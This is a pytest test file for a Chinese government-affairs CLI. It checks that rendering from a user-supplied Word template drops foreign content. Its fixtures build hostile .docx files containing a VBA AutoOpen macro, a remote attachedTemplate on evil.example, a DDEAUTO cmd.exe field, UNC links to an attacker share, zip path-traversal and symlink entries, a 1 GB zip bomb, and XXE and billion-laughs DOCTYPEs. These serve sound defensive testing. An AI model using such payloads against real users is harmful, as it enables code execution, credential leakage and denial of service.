"""A --template .docx gives a sheet only what it needs: each hostile template is built here from
the bundled one (zipfile + lxml), rendered, and the written sheet's parts are read back."""

from __future__ import annotations

import io
import re
import stat
import zipfile
import zlib
from collections.abc import Callable
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner
from docx import Document
from lxml import etree  # type: ignore[import-untyped]

from zhengwu_cli.cli import cli
from zhengwu_cli.resources import templates_dir

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NS = {"w": W, "r": R}

Parts = dict[str, bytes]


def _bundled() -> Parts:
    with zipfile.ZipFile(templates_dir() / "sheet.docx") as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _xml(data: bytes) -> etree._Element:
    return etree.fromstring(data)


def _bytes(root: etree._Element) -> bytes:
    return bytes(etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True))


def _add_rel(
    parts: Parts, rels_part: str, rid: str, kind: str, target: str, external: bool
) -> None:
    root = _xml(parts[rels_part]) if rels_part in parts else etree.Element(f"{{{PR}}}Relationships")
    rel = etree.SubElement(root, f"{{{PR}}}Relationship", Id=rid, Type=kind, Target=target)
    if external:
        rel.set("TargetMode", "External")
    parts[rels_part] = _bytes(root)


def _override(parts: Parts, name: str, content_type: str) -> None:
    root = _xml(parts["[Content_Types].xml"])
    for old in root.findall(f"{{{CT}}}Override[@PartName='/{name}']"):
        root.remove(old)
    etree.SubElement(root, f"{{{CT}}}Override", PartName=f"/{name}", ContentType=content_type)
    parts["[Content_Types].xml"] = _bytes(root)


def _write(path: Path, parts: Parts, extra: list[tuple[zipfile.ZipInfo, bytes]] = ()) -> Path:  # type: ignore[assignment]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for info, data in extra:
            archive.writestr(info, data)
    return path


def _render(tmp_path: Path, template: Path, *more: str) -> tuple[int, str, Parts]:
    runner = CliRunner()
    out = tmp_path / "sheet.docx"
    result = runner.invoke(
        cli, ["render", "--unit", "市司法局", "--template", str(template), "-o", str(out), *more]
    )
    if result.exit_code != 0 or not out.exists():
        return result.exit_code, result.output, {}
    with zipfile.ZipFile(out) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
        for info in archive.infolist():
            assert stat.S_ISREG(info.external_attr >> 16), info.filename
    Document(str(out))  # python-docx opens it
    return result.exit_code, result.output, parts


def _everything(parts: Parts) -> bytes:
    return b"\n".join(parts.values())


# -- each hostile template -------------------------------------------------------------------


def _macros(parts: Parts) -> str:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 VBA macro: Sub AutoOpen() Shell(calc.exe)"
    _add_rel(
        parts,
        "word/_rels/document.xml.rels",
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
        False,
    )
    _override(parts, "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    _override(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    return "macros"


def _attached_template(parts: Parts) -> str:
    settings = _xml(parts["word/settings.xml"])
    element = etree.Element(f"{{{W}}}attachedTemplate")
    element.set(f"{{{R}}}id", "rIdT")
    settings.insert(0, element)
    parts["word/settings.xml"] = _bytes(settings)
    _add_rel(
        parts,
        "word/_rels/settings.xml.rels",
        "rIdT",
        RT + "attachedTemplate",
        "http://evil.example/attack.dotm",
        True,
    )
    return "a template link"


def _fields(parts: Parts) -> str:
    footer = _xml(parts["word/footer1.xml"])
    p = footer.find("w:p", NS)
    runs = (
        '<w:r xmlns:w="{W}"><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r xmlns:w="{W}"><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe" </w:instrText></w:r>'
        '<w:r xmlns:w="{W}"><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r xmlns:w="{W}"><w:t>dde result</w:t></w:r>'
        '<w:r xmlns:w="{W}"><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple xmlns:w="{W}" '
        'w:instr=" INCLUDEPICTURE &quot;\\\\\\\\attacker\\\\share\\\\x.png&quot; \\d ">'
        "<w:r><w:t>picture</w:t></w:r></w:fldSimple>"
    ).replace("{W}", W)
    for element in etree.fromstring(f'<x xmlns:w="{W}">{runs}</x>'):
        p.append(element)
    parts["word/footer1.xml"] = _bytes(footer)
    return "fields ("


def _external_links(parts: Parts) -> str:
    rels = "word/_rels/document.xml.rels"
    _add_rel(parts, rels, "rIdImg", RT + "image", "file://///attacker/share/logo.png", True)
    _add_rel(parts, rels, "rIdOle", RT + "oleObject", "\\\\attacker\\share\\data.xlsx", True)
    _add_rel(parts, rels, "rIdLink", RT + "hyperlink", "http://attacker.example/", True)
    footer = _xml(parts["word/footer2.xml"])
    pict = etree.fromstring(
        f'<w:r xmlns:w="{W}" xmlns:r="{R}"><w:pict>'
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rIdX"/></w:pict></w:r>'
    )
    footer.find("w:p", NS).append(pict)
    parts["word/footer2.xml"] = _bytes(footer)
    _add_rel(
        parts, "word/_rels/footer2.xml.rels", "rIdX", RT + "image", "\\\\attacker\\x.png", True
    )
    return "external links"


def _alt_chunk(parts: Parts) -> str:
    parts["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<html>foreign content</html>"
    _add_rel(parts, "word/_rels/document.xml.rels", "rIdAlt", RT + "aFChunk", "afchunk.mht", False)
    document = _xml(parts["word/document.xml"])
    chunk = etree.Element(f"{{{W}}}altChunk")
    chunk.set(f"{{{R}}}id", "rIdAlt")
    document.find("w:body", NS).insert(0, chunk)
    parts["word/document.xml"] = _bytes(document)
    _override(parts, "word/afchunk.mht", "message/rfc822")
    return "aFChunk parts"


def _author(parts: Parts) -> str:
    core = parts["docProps/core.xml"].decode()
    core = core.replace(
        "<dc:title>", "<dc:creator>张三 zhangsan@example.com</dc:creator><dc:title>"
    )
    core = core.replace(
        "</cp:coreProperties>",
        "<cp:lastModifiedBy>李四 lisi@example.com</cp:lastModifiedBy>"
        "<dc:description>内部模板，勿外传</dc:description></cp:coreProperties>",
    )
    parts["docProps/core.xml"] = core.encode()
    app = parts["docProps/app.xml"].decode()
    parts["docProps/app.xml"] = app.replace(
        "</Properties>", "<Company>某某科技有限公司</Company></Properties>"
    ).encode()
    return "author"


HOSTILE: dict[str, Callable[[Parts], str]] = {
    "macros": _macros,
    "attached template": _attached_template,
    "fields": _fields,
    "external links": _external_links,
    "altChunk": _alt_chunk,
    "author": _author,
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_hostile_template_gives_its_sheets_nothing_foreign(tmp_path: Path, case: str) -> None:
    parts = _bundled()
    says = HOSTILE[case](parts)
    code, output, sheet = _render(tmp_path, _write(tmp_path / "my.docx", parts))
    assert code == 0, output
    assert "not taken into the sheets" in output and says in output
    if case == "fields":
        assert "DDEAUTO" in output and "INCLUDEPICTURE" in output
    assert len([line for line in output.splitlines() if "not taken" in line]) == 1
    everything = _everything(sheet)
    for foreign in (
        b"vbaProject",
        b"macroEnabled",
        b"attachedTemplate",
        b"evil.example",
        b"DDEAUTO",
        b"INCLUDEPICTURE",
        b"attacker",
        b"External",
        b"aFChunk",
        b"altChunk",
        b"zhangsan",
        "李四".encode(),
        "某某科技".encode(),
        "勿外传".encode(),
    ):
        assert foreign not in everything, foreign
    allowed = re.compile(
        r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(core|app)\.xml|word/_rels/document\.xml\.rels"
        r"|word/(document|styles|numbering|settings|fontTable|footnotes|endnotes)\.xml"
        r"|word/theme/theme1\.xml|word/(header|footer)\d+\.xml"
    )
    assert [name for name in sheet if not allowed.fullmatch(name)] == []
    # what a sheet needs is still there: the page numbers in both footers, the styles
    for footer in ("word/footer1.xml", "word/footer2.xml"):
        assert b" PAGE " in sheet[footer]
    types = _xml(sheet["[Content_Types].xml"])
    main = types.find(f"{{{CT}}}Override[@PartName='/word/document.xml']")
    assert main is not None
    assert main.get("ContentType", "").endswith("wordprocessingml.document.main+xml")


def test_unsafe_zip_members_are_dropped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    climbing = zipfile.ZipInfo("../../../x")
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    absolute = zipfile.ZipInfo("/etc/cron.d/x")
    template = _write(
        tmp_path / "my.docx",
        _bundled(),
        [(climbing, b"escaped"), (link, b"/etc/passwd"), (absolute, b"* * * * * id")],
    )
    work = tmp_path / "a" / "b" / "c"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    code, output, sheet = _render(work, template)
    assert code == 0, output
    assert "unsafe zip entries" in output and "symlink" in output
    assert not (tmp_path / "x").exists()
    assert not any(".." in name or name.startswith("/") or "link" in name for name in sheet)


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    """The deflate stream and CRC of `size` zero bytes, built from one compressed block
    repeated (a full flush makes every block's bytes the same), so a 1 GB part costs
    a fraction of a second to build."""
    block = 16 << 20
    assert size % block == 0
    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    piece = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)
    crc = 0
    zeros = b"\0" * block
    for _ in range(size // block):
        crc = zlib.crc32(zeros, crc)
    return piece + again * (size // block - 1) + tail, crc


def _append_raw(path: Path, name: str, data: bytes, crc: int, size: int) -> None:
    """Add an already deflated member (what zipfile.writestr does after compressing)."""
    with zipfile.ZipFile(path, "a") as archive:
        info = zipfile.ZipInfo(name, date_time=(2022, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        info.file_size, info.compress_size, info.CRC = size, len(data), crc
        archive.fp.seek(archive.start_dir)  # type: ignore[union-attr]
        info.header_offset = archive.start_dir
        archive.fp.write(info.FileHeader(False))  # type: ignore[union-attr]
        archive.fp.write(data)  # type: ignore[union-attr]
        archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
        archive.filelist.append(info)
        archive.NameToInfo[name] = info
        archive._didModify = True  # type: ignore[attr-defined]


def test_a_one_gigabyte_part_is_never_read(tmp_path: Path) -> None:
    parts = _bundled()
    # the junk is a header the document names: the reader must refuse it by its size
    _add_rel(parts, "word/_rels/document.xml.rels", "rIdJunk", RT + "header", "header9.xml", False)
    template = _write(tmp_path / "my.docx", parts)
    data, crc = _deflated_zeros(1 << 30)
    _append_raw(template, "word/header9.xml", data, crc, 1 << 30)
    assert template.stat().st_size < 5_000_000
    code, output, sheet = _render(tmp_path, template)
    assert code == 0, output
    assert "oversized parts" in output and "header9.xml" in output
    assert "word/header1.xml" not in sheet


def test_a_part_whose_size_lies_is_not_inflated(tmp_path: Path) -> None:
    """A header claiming 100 bytes for 32 MB: at most the claimed size is inflated, and the
    damage is a clear error (a Word template never lies about its sizes)."""
    parts = _bundled()
    _add_rel(parts, "word/_rels/document.xml.rels", "rIdJunk", RT + "header", "header9.xml", False)
    template = _write(tmp_path / "my.docx", parts)
    data, crc = _deflated_zeros(32 << 20)
    _append_raw(template, "word/header9.xml", data, crc, 100)  # the header says 100 bytes
    code, output, _ = _render(tmp_path, template)
    assert code == 2, output
    assert "word/header9.xml cannot be read" in output and "Traceback" not in output
    assert not (tmp_path / "sheet.docx").exists()


# -- entities, not a Word file, missing styles, widths ---------------------------------------


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    ],
)
def test_entities_in_document_xml_are_refused(tmp_path: Path, doctype: str) -> None:
    parts = _bundled()
    text = parts["word/document.xml"].decode()
    head, rest = text.split("?>", 1)
    use = "&xxe;" if "xxe" in doctype else "&d;"
    rest = rest.replace("<w:body>", f"<w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p>", 1)
    parts["word/document.xml"] = (head + "?>" + doctype + rest).encode()
    code, output, sheet = _render(tmp_path, _write(tmp_path / "my.docx", parts))
    assert code == 2
    assert "word/document.xml declares a DTD" in output and "nothing was expanded" in output
    assert "Traceback" not in output and "root:" not in output
    assert sheet == {} and not (tmp_path / "sheet.docx").exists()


def test_an_excel_file_is_not_a_word_document(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "序号"
    book.save(tmp_path / "my.docx")
    code, output, _ = _render(tmp_path, tmp_path / "my.docx")
    assert code == 2 and "not a Word document" in output and "Excel" in output
    (tmp_path / "text.docx").write_text("这不是Word文件", encoding="utf-8")
    code, output, _ = _render(tmp_path, tmp_path / "text.docx")
    assert code == 2 and "not a Word document" in output
    assert "Traceback" not in output


def test_a_template_without_the_page_number_style_is_an_error(tmp_path: Path) -> None:
    parts = _bundled()
    parts["word/styles.xml"] = parts["word/styles.xml"].replace("页码".encode(), b"Page X")
    code, output, _ = _render(tmp_path, _write(tmp_path / "my.docx", parts))
    assert code == 2 and "页码" in output and "my.docx" in output
    assert not (tmp_path / "sheet.docx").exists()


@pytest.mark.parametrize("width", [".inf", ".nan", "-.inf", "1e308", "true"])
def test_a_column_width_that_is_no_number_is_an_error(tmp_path: Path, width: str) -> None:
    (tmp_path / "my.docx").write_bytes((templates_dir() / "sheet.docx").read_bytes())
    text = (templates_dir() / "sheet.yaml").read_text(encoding="utf-8")
    changed = re.sub(
        r"\{heading: 完成时限, width: [0-9.]+\}", f"{{heading: 完成时限, width: {width}}}", text
    )
    assert changed != text
    (tmp_path / "my.yaml").write_text(changed, encoding="utf-8")
    # the error is at the column's own line (the first 完成时限 is unit_columns')
    line = next(i for i, s in enumerate(changed.splitlines(), 1) if "heading: 完成时限" in s)
    code, output, _ = _render(tmp_path, tmp_path / "my.docx")
    assert code == 2, output
    assert f"my.yaml:{line}:" in output and "width" in output
    assert "Traceback" not in output and not (tmp_path / "sheet.docx").exists()


def test_an_office_sheet_yaml_from_before_a_role_was_added_still_renders(tmp_path: Path) -> None:
    """role_names without 负责 (added later): 负责 rows print 负责, the rest as the file says."""
    (tmp_path / "my.docx").write_bytes((templates_dir() / "sheet.docx").read_bytes())
    text = (templates_dir() / "sheet.yaml").read_text(encoding="utf-8")
    old = re.sub(r"负责: 负责, ", "", text).replace("共同: 共同落实", "共同: 一起落实")
    assert "负责:" not in old.split("role_names:")[1].splitlines()[0]
    (tmp_path / "my.yaml").write_text(old, encoding="utf-8")
    out = tmp_path / "双辽市.docx"
    result = CliRunner().invoke(
        cli, ["render", "--unit", "双辽市", "--template", str(tmp_path / "my.docx"), "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    cells = "\n".join(c.text for t in Document(str(out)).tables for r in t.rows for c in r.cells)
    assert "负责" in cells and "一起落实" in cells


# -- the sheet's own package -----------------------------------------------------------------


@pytest.fixture(scope="module")
def bundled_sheet(tmp_path_factory: pytest.TempPathFactory) -> Parts:
    folder = tmp_path_factory.mktemp("sheet")
    code, output, parts = _render(folder, templates_dir() / "sheet.docx")
    assert code == 0, output
    assert "not taken" not in output  # the bundled template holds nothing to drop
    return parts


def test_core_properties_are_the_sheets_own(bundled_sheet: Parts) -> None:
    core = _xml(bundled_sheet["docProps/core.xml"])
    dc, terms = "http://purl.org/dc/elements/1.1/", "http://purl.org/dc/terms/"
    assert core.findtext(f"{{{dc}}}title") == "四平市2022年政务公开工作任务清单（市司法局）"
    assert "任务单" in (core.findtext(f"{{{dc}}}subject") or "")
    assert core.find(f"{{{dc}}}description") is None and core.find(f"{{{dc}}}creator") is None
    for tag in ("created", "modified"):
        stamp = datetime.strptime(core.findtext(f"{{{terms}}}{tag}") or "", "%Y-%m-%dT%H:%M:%SZ")
        age = datetime.now(timezone.utc) - stamp.replace(tzinfo=timezone.utc)
        assert abs(age.total_seconds()) < 600
    assert "docProps/thumbnail.jpeg" not in bundled_sheet
    assert "word/stylesWithEffects.xml" not in bundled_sheet
    assert b"stylesWithEffects" not in _everything(bundled_sheet)
    assert "zhengwu render 的模板".encode() not in _everything(bundled_sheet)


def test_theme_font_language_and_font_fallbacks(bundled_sheet: Parts) -> None:
    settings = _xml(bundled_sheet["word/settings.xml"])
    lang = settings.find("w:themeFontLang", NS)
    assert lang is not None and lang.get(f"{{{W}}}eastAsia") == "zh-CN"
    fonts = _xml(bundled_sheet["word/fontTable.xml"])
    alt = {
        font.get(f"{{{W}}}name"): alt_name.get(f"{{{W}}}val")
        for font in fonts.findall("w:font", NS)
        if (alt_name := font.find("w:altName", NS)) is not None
    }
    assert alt["仿宋_GB2312"] == "仿宋" and alt["方正小标宋简体"] == "宋体"
    names = {font.get(f"{{{W}}}name") for font in fonts.findall("w:font", NS)}
    assert {"仿宋", "宋体", "黑体"} <= names
    fangsong = fonts.find("w:font[@w:name='仿宋_GB2312']/w:charset", NS)
    assert fangsong is not None and fangsong.get(f"{{{W}}}val") == "86"  # GB2312


def test_styles_based_on_table_text_follow_it(tmp_path: Path) -> None:
    """Restyle 表格文字 only: the centred cells (序号, 完成时限) and the headings' size follow."""
    parts = _bundled()
    styles = _xml(parts["word/styles.xml"])
    text_style = styles.find("w:style[@w:styleId='ZwTableText']", NS)
    assert text_style is not None
    fonts = text_style.find("w:rPr/w:rFonts", NS)
    size = text_style.find("w:rPr/w:sz", NS)
    assert fonts is not None and size is not None
    for attr in ("ascii", "hAnsi", "eastAsia"):
        fonts.set(f"{{{W}}}{attr}", "楷体")
    size.set(f"{{{W}}}val", "24")
    parts["word/styles.xml"] = _bytes(styles)
    code, output, sheet = _render(tmp_path, _write(tmp_path / "my.docx", parts))
    assert code == 0, output
    document = Document(io.BytesIO(_zip(sheet)))
    rows = document.tables[0].rows  # the headings, the task's title, then its indicators
    number_cell = next(r.cells[0] for r in rows if r.cells[0].text.isdigit()).paragraphs[0]
    assert number_cell.style is not None and number_cell.style.name == "表格文字居中"
    run_fonts = number_cell.runs[0]._r.find(f"{{{W}}}rPr/{{{W}}}rFonts")
    assert run_fonts is not None and run_fonts.get(f"{{{W}}}eastAsia") == "楷体"
    centred = document.styles["表格文字居中"]
    assert centred.base_style is not None and centred.base_style.name == "表格文字"
    assert centred.font.size is None  # its size is 表格文字's
    heading = document.styles["表头"]
    assert heading.base_style is not None and heading.base_style.name == "表格文字"


def _zip(parts: Parts) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_an_encrypted_template_is_refused_with_a_message(tmp_path: Path) -> None:
    """zipfile raises RuntimeError on an encrypted part: that was a traceback."""
    template = _write(tmp_path / "my.docx", _bundled())
    with zipfile.ZipFile(template) as archive:
        infos = archive.infolist()
    data = bytearray(template.read_bytes())
    for info in infos:  # the encrypted flag, in the central directory the reader trusts
        name = info.filename.encode()
        at = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
        data[at + 8] |= 0x1
    template.write_bytes(bytes(data))
    code, output, sheet = _render(tmp_path, template)
    assert code == 2, output
    assert "the template is encrypted (password-protected)" in output
    assert "Traceback" not in output and sheet == {}
